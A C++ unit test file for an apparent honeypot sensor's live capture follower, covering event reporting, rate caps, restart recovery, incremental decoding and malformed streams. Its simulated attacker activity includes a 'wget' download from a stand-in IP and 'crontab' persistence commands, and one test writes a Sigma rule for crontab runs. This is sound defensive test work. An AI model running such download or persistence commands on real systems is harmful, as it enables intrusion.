// The sensor's live capture events: only what comes after the follower
// starts, only the live types, byte-by-byte arrival, a rate cap, and one
// error for a malformed stream.
#include "oyster/sensor/capture_follower.h"

#include <algorithm>
#include <chrono>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

#include <fmt/format.h>

#include "capture_stream_builder.h"
#include "oyster/capture/capture_decoder.h"
#include "oyster/capture/receive_times.h"
#include "oyster/capture/tty_replay.h"
#include "oyster/common/sha256.h"
#include "oyster/detection/sigma_ruleset.h"
#include "temp_dir.h"

namespace oyster::sensor {
namespace {

using capture::testing::StreamBuilder;

class CaptureFollowerTest : public oyster::testing::TempDirTest {
protected:
    void append(const std::vector<std::uint8_t>& bytes, std::size_t from, std::size_t to) {
        std::ofstream out(dir / "capture.bin", std::ios::binary | std::ios::app);
        out.write(reinterpret_cast<const char*>(bytes.data() + from), static_cast<std::streamsize>(to - from));
    }
    CaptureFollower::Sink sink() {
        return [this](CaptureFollower::Event event) {
            std::visit(
                [&](const auto& e) {
                    auto fields = events::to_fields(e);
                    fields["type"] = events::event_type(e);
                    got.push_back(std::move(fields));
                },
                event);
        };
    }
    std::vector<nlohmann::json> got;
};

TEST_F(CaptureFollowerTest, ReportsOnlyWhatComesAfterItStarts) {
    StreamBuilder b;
    b.exec("/usr/sbin/cron", {"cron"}, 1000, 0);  // the pool guest's boot
    std::size_t boot_end = b.bytes.size();
    append(b.bytes, 0, boot_end);
    CaptureFollower f(dir / "capture.bin", sink());
    f.poll();
    EXPECT_TRUE(got.empty());

    b.exec("/usr/bin/wget", {"wget", "http://198.51.100.80/x"}, 1000, 0);
    // A process fork is reported (the store follows the process tree); a
    // thread's creation is not.
    auto fork = [&](std::uint64_t flags, std::uint32_t child) {
        oyster_cap_fork rec{};
        rec.clone_flags = flags;
        rec.child_pid = child;
        rec.child_tgid = flags & 0x00010000U ? 100 : child;
        b.record(OYSTER_CAP_FORK, 0, std::string(reinterpret_cast<const char*>(&rec), sizeof rec));
    };
    fork(0x00010000U, 101);  // CLONE_THREAD
    fork(0, 102);
    b.tty(OYSTER_CAP_TTY_IN, "ls\r");
    // Arrives a byte at a time: nothing is reported twice or torn.
    for (std::size_t i = boot_end; i < b.bytes.size(); ++i) {
        append(b.bytes, i, i + 1);
        f.poll();
    }
    ASSERT_EQ(got.size(), 2u) << nlohmann::json(got).dump();
    EXPECT_EQ(got[0]["type"], "capture");
    EXPECT_EQ(got[0]["event"]["type"], "exec");
    EXPECT_EQ(got[0]["event"]["argv"], nlohmann::json({"wget", "http://198.51.100.80/x"}));
    EXPECT_EQ(got[1]["event"]["type"], "fork");
    EXPECT_EQ(got[1]["event"]["child_tgid"], 102);
    EXPECT_EQ(f.reported(), 2u);
}

// Detection waits for the intrusion: a matching command before it (the
// sensor says "not alerting yet") raises nothing and does not use up the
// rule's one raise, so the same command after it does.
TEST_F(CaptureFollowerTest, AlertsOnlyOnceTheIntrusionIsOpen) {
    std::filesystem::create_directories(dir / "rules");
    std::ofstream(dir / "rules" / "crontab.yml")
        << "title: crontab run\nlogsource: {product: linux, category: process_creation}\n"
           "detection:\n  s:\n    Image|endswith: /crontab\n  condition: s\n";
    auto rules = std::make_shared<const detection::SigmaRuleSet>(detection::SigmaRuleSet::load({dir / "rules"}));
    ASSERT_EQ(rules->rules().size(), 1u);
    StreamBuilder b;
    append(b.bytes, 0, b.bytes.size());
    CaptureFollower f(dir / "capture.bin", sink());
    bool intrusion_open = false;
    f.detect(rules, [&] { return intrusion_open; });
    f.poll();
    auto alerts = [&] {
        return std::count_if(got.begin(), got.end(), [](const auto& e) { return e["type"] == "alert"; });
    };
    std::size_t from = b.bytes.size();
    b.exec("/usr/bin/crontab", {"crontab", "-l"}, 1000, 0);
    append(b.bytes, from, b.bytes.size());
    f.poll();
    EXPECT_EQ(alerts(), 0);
    intrusion_open = true;
    from = b.bytes.size();
    b.exec("/usr/bin/crontab", {"crontab", "/tmp/c"}, 1000, 0);
    b.exec("/usr/bin/crontab", {"crontab", "/tmp/d"}, 1000, 0);
    append(b.bytes, from, b.bytes.size());
    f.poll();
    EXPECT_EQ(alerts(), 1);
}

// A sensor killed after reporting some records: the next sensor's follower
// reports from where the last one read (nothing lost, nothing twice), not
// from the file's end; the pool guest's boot is still not reported.
TEST_F(CaptureFollowerTest, ASensorRestartReportsWhatTheOldOneHadNotRead) {
    auto progress = dir / "capture.progress";
    StreamBuilder b;
    b.exec("/usr/sbin/cron", {"cron"}, 1000, 0);  // the pool guest's boot
    append(b.bytes, 0, b.bytes.size());
    std::size_t at = b.bytes.size();
    {
        CaptureFollower old(dir / "capture.bin", sink(), {}, {}, progress);
        b.exec("/usr/bin/id", {"id", "before"}, 1000, 0);
        append(b.bytes, at, b.bytes.size());
        at = b.bytes.size();
        old.poll();
        // Killed before it reads these.
        b.exec("/usr/bin/id", {"id", "while-down-1"}, 1000, 0);
        b.exec("/usr/bin/id", {"id", "while-down-2"}, 1000, 0);
        append(b.bytes, at, b.bytes.size());
        at = b.bytes.size();
    }
    CaptureFollower next(dir / "capture.bin", sink(), {}, {}, progress);
    next.poll();
    std::vector<std::string> argv1;
    for (const auto& e : got) argv1.push_back(e["event"]["argv"][1]);
    EXPECT_EQ(argv1, (std::vector<std::string>{"before", "while-down-1", "while-down-2"}));

    // A progress file that is not one, or says more than the file holds,
    // falls back to the file's end.
    for (const std::string& bad : {std::string("garbage"), fmt::format("{:020}\n", b.bytes.size() + 100)}) {
        std::ofstream(progress, std::ios::binary | std::ios::trunc) << bad;
        got.clear();
        CaptureFollower again(dir / "capture.bin", sink(), {}, {}, progress);
        again.poll();
        EXPECT_TRUE(got.empty()) << bad;
    }
}

TEST_F(CaptureFollowerTest, SkipsABootLargerThanOneRead) {
    StreamBuilder b;
    // Far more than one poll reads (4 MiB): executed files' content.
    for (int i = 0; i < 400; ++i)
        b.exec("/usr/lib/boot-" + std::to_string(i), {"boot", std::string(16 << 10, 'x')}, 10, 0);
    append(b.bytes, 0, b.bytes.size());
    ASSERT_GT(b.bytes.size(), std::size_t{5} << 20);
    CaptureFollower f(dir / "capture.bin", sink());
    f.poll();
    f.poll();
    EXPECT_TRUE(got.empty()) << nlohmann::json(got).dump().substr(0, 300);
}

// An exec burst beyond the live allowance: the allowance's worth is
// forwarded live (and what refills while it is read, at most a few); the
// rest is still written for the store, marked store_only, and counted.
TEST_F(CaptureFollowerTest, CapsTheLiveRateAndStoresTheRest) {
    StreamBuilder b;
    append(b.bytes, 0, b.bytes.size());
    CaptureFollower f(dir / "capture.bin", sink());
    std::size_t start = b.bytes.size();
    const unsigned total = CaptureFollower::kBurstEvents + 500;
    for (unsigned i = 0; i < total; ++i) b.exec("/bin/true", {"true", std::to_string(i)}, 10, 0);
    append(b.bytes, start, b.bytes.size());
    auto t0 = std::chrono::steady_clock::now();
    f.poll();
    double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
    EXPECT_GE(f.reported(), CaptureFollower::kBurstEvents);
    EXPECT_LE(f.reported(), CaptureFollower::kBurstEvents + 1 + seconds * CaptureFollower::kEventsPerSecond);
    EXPECT_EQ(f.reported() + f.stored_only(), total);
    std::vector<nlohmann::json> captured;
    for (const auto& e : got) {
        if (e["type"] == "capture") captured.push_back(e);
    }
    ASSERT_EQ(captured.size(), total);
    unsigned flagged = 0;
    for (unsigned i = 0; i < total; ++i) {
        EXPECT_EQ(captured[i]["event"]["argv"][1], std::to_string(i)) << "in order, none left out";
        flagged += captured[i].value("store_only", false);
    }
    EXPECT_EQ(flagged, f.stored_only());
    // Every roll counts (a slow poll, as under the sanitizer, may roll
    // during the burst).
    std::this_thread::sleep_for(std::chrono::milliseconds(1100));
    f.poll();
    std::uint64_t events = 0, stored = 0, execs = 0;
    for (const auto& e : got) {
        if (e["type"] != "capture_suppressed") continue;
        events += e["events"].get<std::uint64_t>();
        stored += e["stored"].get<std::uint64_t>();
        EXPECT_EQ(e["by_class"].size(), 1u) << e.dump();
        execs += e["by_class"].value("exec", std::uint64_t{0});
    }
    EXPECT_EQ(events, f.stored_only());
    EXPECT_EQ(stored, f.stored_only());
    EXPECT_EQ(execs, f.stored_only());
}

// A root forging one protected class in a loop (terminal opens here) is
// bounded by the store's allowance, ten times the live one: what is past
// both is counted, not written.
TEST_F(CaptureFollowerTest, TheStoresAllowanceBoundsAForgedFlood) {
    StreamBuilder b;
    append(b.bytes, 0, b.bytes.size());
    CaptureFollower f(dir / "capture.bin", sink());
    // Time as the test says: however long reading the flood takes (seconds
    // under the sanitizers), the allowances see none of it pass.
    auto now = std::chrono::steady_clock::now();
    f.set_clock([&now] { return now; });
    std::size_t start = b.bytes.size();
    const unsigned total = CaptureFollower::kBurstEvents + CaptureFollower::kStoreBurstEvents + 5000;
    for (unsigned i = 0; i < total; ++i) b.tty(OYSTER_CAP_TTY_OPEN, "");
    append(b.bytes, start, b.bytes.size());
    f.poll();
    f.poll();
    // Exactly the two bursts: the live one, then the store's, the rest
    // counted only.
    EXPECT_EQ(f.reported(), CaptureFollower::kBurstEvents);
    EXPECT_EQ(f.stored_only(), CaptureFollower::kStoreBurstEvents);
    EXPECT_LT(f.reported() + f.stored_only(), total);
    now += std::chrono::milliseconds(1100);
    f.poll();
    std::uint64_t suppressed = 0, stored = 0;
    for (const auto& e : got) {
        if (e["type"] != "capture_suppressed") continue;
        suppressed += e["events"].get<std::uint64_t>();
        stored += e["stored"].get<std::uint64_t>();
    }
    EXPECT_EQ(suppressed, total - f.reported());
    EXPECT_EQ(stored, f.stored_only());
}

// A poll with a budget stops when it is spent and says it is behind; the
// polls after it go on from there until all is read, none twice: the
// sensor's loop serves the portal between them (sensor.cpp, kFollowBudget).
TEST_F(CaptureFollowerTest, ABudgetCutsAPollShortAndTheNextGoOn) {
    StreamBuilder b;
    append(b.bytes, 0, b.bytes.size());
    CaptureFollower f(dir / "capture.bin", sink());
    // No refill: every exec is counted once, live or store_only.
    auto now = std::chrono::steady_clock::now();
    f.set_clock([&now] { return now; });
    EXPECT_FALSE(f.poll(true, std::chrono::milliseconds(1)));
    std::size_t start = b.bytes.size();
    const unsigned total = 15000;
    for (unsigned i = 0; i < total; ++i) b.exec("/usr/bin/id", {"id", std::to_string(i)}, 10, 0);
    append(b.bytes, start, b.bytes.size());
    ASSERT_TRUE(f.poll(true, std::chrono::milliseconds(1)));
    EXPECT_LT(f.reported() + f.stored_only(), total);
    unsigned polls = 1;
    while (f.poll(true, std::chrono::milliseconds(1))) ++polls;
    EXPECT_GT(polls, 1u);
    EXPECT_EQ(f.reported() + f.stored_only(), total);
    EXPECT_FALSE(f.poll(true, std::chrono::milliseconds(1)));
    EXPECT_EQ(f.reported() + f.stored_only(), total);
}

// A guest floods connect() records (a UDP socket connected in a loop)
// while its attacker works: the flood uses up only its own class, and the
// attacker's execs, forks, terminal opens and accepts are all forwarded live.
TEST_F(CaptureFollowerTest, AFloodOfCheapRecordsCrowdsOutNothingElse) {
    StreamBuilder b;
    append(b.bytes, 0, b.bytes.size());
    CaptureFollower f(dir / "capture.bin", sink());
    std::size_t start = b.bytes.size();
    const std::uint8_t ip[4] = {198, 51, 100, 9};
    unsigned commands = 0;
    for (unsigned round = 0; round < 40; ++round) {
        for (int i = 0; i < 200; ++i) b.connect4(0, ip, 53);
        oyster_cap_fork rec{};
        rec.child_pid = rec.child_tgid = 1000 + round;
        b.record(OYSTER_CAP_FORK, 0, std::string(reinterpret_cast<const char*>(&rec), sizeof rec));
        b.exec("/usr/bin/id", {"id", std::to_string(round)}, 10, 0);
        ++commands;
        if (round % 10 == 0) b.tty(OYSTER_CAP_TTY_OPEN, "");
    }
    append(b.bytes, start, b.bytes.size());
    f.poll();
    unsigned execs = 0, forks = 0, opens = 0, connects = 0;
    for (const auto& e : got) {
        if (e["type"] != "capture") continue;
        std::string t = e["event"]["type"];
        execs += t == "exec";
        forks += t == "fork";
        opens += t == "tty_open";
        connects += t == "connect";
    }
    EXPECT_EQ(execs, commands);
    EXPECT_EQ(forks, commands);
    EXPECT_EQ(opens, 4u);
    EXPECT_GE(connects, CaptureFollower::kBurstEvents);
    EXPECT_LT(connects, 8000u) << "the flood itself is capped";
    // The count of what was left out comes on the next second's roll (a
    // slow poll, as under the sanitizer, may have rolled once already:
    // every roll counts).
    std::this_thread::sleep_for(std::chrono::milliseconds(1100));
    f.poll();
    std::uint64_t events = 0, other = 0, stored = 0;
    nlohmann::json classes = nlohmann::json::object();
    for (const auto& e : got) {
        if (e["type"] != "capture_suppressed") continue;
        events += e["events"].get<std::uint64_t>();
        stored += e["stored"].get<std::uint64_t>();
        for (const auto& [name, n] : e["by_class"].items()) {
            classes[name] = true;
            if (name == "other") other += n.get<std::uint64_t>();
        }
    }
    EXPECT_EQ(events, 8000 - connects);
    EXPECT_EQ(other, 8000 - connects);
    EXPECT_EQ(classes, nlohmann::json({{"other", true}})) << "no other class was cut";
    EXPECT_EQ(stored, 0u) << "the other class beyond its allowance is not written";
}

std::string read_text(const std::filesystem::path& p) {
    std::ifstream in(p, std::ios::binary);
    return {std::istreambuf_iterator<char>(in), {}};
}

// The decode the follower makes as records arrive, stamp by stamp and
// piece by piece, is the decode of the whole file made at once: same
// events (receive times included), recordings and files.
TEST_F(CaptureFollowerTest, DecodesAsRecordsArriveExactlyAsAWholeDecode) {
    StreamBuilder b;
    auto seq = b.exec("/tmp/x", {"/tmp/x", "-v"}, 11, OYSTER_CAP_EXEC_CONTENT_FOLLOWS);
    b.content(seq, 0, 11, "hello ", false);
    b.tty(OYSTER_CAP_TTY_OPEN, "");
    b.tty(OYSTER_CAP_TTY_IN, "ls\r");
    b.content(seq, 6, 11, "world", true);
    b.tty(OYSTER_CAP_TTY_OUT, "ls\r\nfile \xe2\x94");  // a character cut in two records
    b.tty(OYSTER_CAP_TTY_OUT, "\x80\r\n");
    b.exec("/usr/bin/id", {"id"}, 10, 0);
    b.tty(OYSTER_CAP_TTY_CLOSE, "");
    auto stamp = [&](std::uint64_t end, std::uint64_t ns) {
        auto bytes = capture::encode_receive_stamp({end, ns});
        std::ofstream(dir / "capture.times", std::ios::binary | std::ios::app)
            .write(reinterpret_cast<const char*>(bytes.data()), static_cast<std::streamsize>(bytes.size()));
    };
    std::ofstream(dir / "capture.times", std::ios::binary).close();
    CaptureFollower f(dir / "capture.bin", sink(), {}, dir / "live");
    ASSERT_TRUE(f.decodes());
    // Pieces of 37 bytes, each stamped after it is written, but only every
    // second one before the poll: the follower never reads past a stamp.
    std::size_t at = 0;
    std::uint64_t ns = 1764172900000000000ULL;
    while (at < b.bytes.size()) {
        std::size_t to = std::min(at + 37, b.bytes.size());
        append(b.bytes, at, to);
        bool stamped_now = (to / 37) % 2 == 0 || to == b.bytes.size();
        if (stamped_now) stamp(to, ns += 1000);
        f.poll();
        if (!stamped_now) stamp(to, ns += 1000);
        at = to;
    }
    f.poll();
    std::string error;
    auto stats = f.finish(&error);
    EXPECT_EQ(error, "");
    EXPECT_EQ(stats.records, 9u);
    capture::decode_capture_file(dir / "capture.bin", dir / "whole");
    EXPECT_EQ(read_text(dir / "live" / "events.jsonl"), read_text(dir / "whole" / "events.jsonl"));
    EXPECT_NE(read_text(dir / "live" / "events.jsonl").find("\"received_ns\""), std::string::npos);
    EXPECT_EQ(read_text(dir / "live" / "tty" / "sessions.jsonl"), read_text(dir / "whole" / "tty" / "sessions.jsonl"));
    auto recordings = capture::list_tty_recordings(dir / "whole");
    ASSERT_EQ(recordings.size(), 1u);
    EXPECT_EQ(read_text(dir / "live" / "tty" / (recordings[0].name + ".cast")), read_text(recordings[0].cast));
    EXPECT_EQ(read_text(dir / "live" / "tty" / (recordings[0].name + ".ttylog")),
              read_text(dir / "whole" / "tty" / (recordings[0].name + ".ttylog")));
    EXPECT_EQ(std::filesystem::file_size(dir / "live" / "files" / sha256_text("hello world")), 11u);
}

// While the guest runs, readers see what has been decoded so far, and
// nothing the writer has not stamped.
TEST_F(CaptureFollowerTest, ReadersSeeTheDecodeSoFarUpToTheStamps) {
    StreamBuilder b;
    b.exec("/bin/one", {"one"}, 10, 0);
    std::size_t first = b.bytes.size();
    b.exec("/bin/two", {"two"}, 10, 0);
    append(b.bytes, 0, b.bytes.size());
    auto bytes = capture::encode_receive_stamp({first, 5});
    std::ofstream(dir / "capture.times", std::ios::binary)
        .write(reinterpret_cast<const char*>(bytes.data()), static_cast<std::streamsize>(bytes.size()));
    CaptureFollower f(dir / "capture.bin", sink(), {}, dir / "live");
    f.poll();
    std::string so_far = read_text(dir / "live" / "events.jsonl");
    EXPECT_NE(so_far.find("/bin/one"), std::string::npos) << "flushed for readers at each poll";
    EXPECT_EQ(so_far.find("/bin/two"), std::string::npos) << "not stamped yet";
    f.finish();
    EXPECT_NE(read_text(dir / "live" / "events.jsonl").find("/bin/two"), std::string::npos) << "finish reads it all";
}

TEST_F(CaptureFollowerTest, MalformedStreamEndsWithOneError) {
    StreamBuilder b;
    append(b.bytes, 0, b.bytes.size());
    CaptureFollower f(dir / "capture.bin", sink());
    std::size_t start = b.bytes.size();
    b.record(OYSTER_CAP_EXEC, 0, "short", 100, 4);  // size smaller than a header
    b.exec("/bin/true", {"true"}, 10, 0);
    append(b.bytes, start, b.bytes.size());
    f.poll();
    f.poll();
    ASSERT_EQ(got.size(), 1u);
    EXPECT_EQ(got[0]["type"], "capture_error");
}

TEST_F(CaptureFollowerTest, WaitsForTheFileToAppear) {
    CaptureFollower f(dir / "capture.bin", sink());
    f.poll();
    StreamBuilder b;
    b.exec("/bin/sh", {"sh"}, 10, 0);
    append(b.bytes, 0, b.bytes.size());
    f.poll();
    // The file appeared after the follower started: all of it is new.
    ASSERT_EQ(got.size(), 1u);
    EXPECT_EQ(got[0]["event"]["type"], "exec");
}

}  // namespace
}  // namespace oyster::sensor
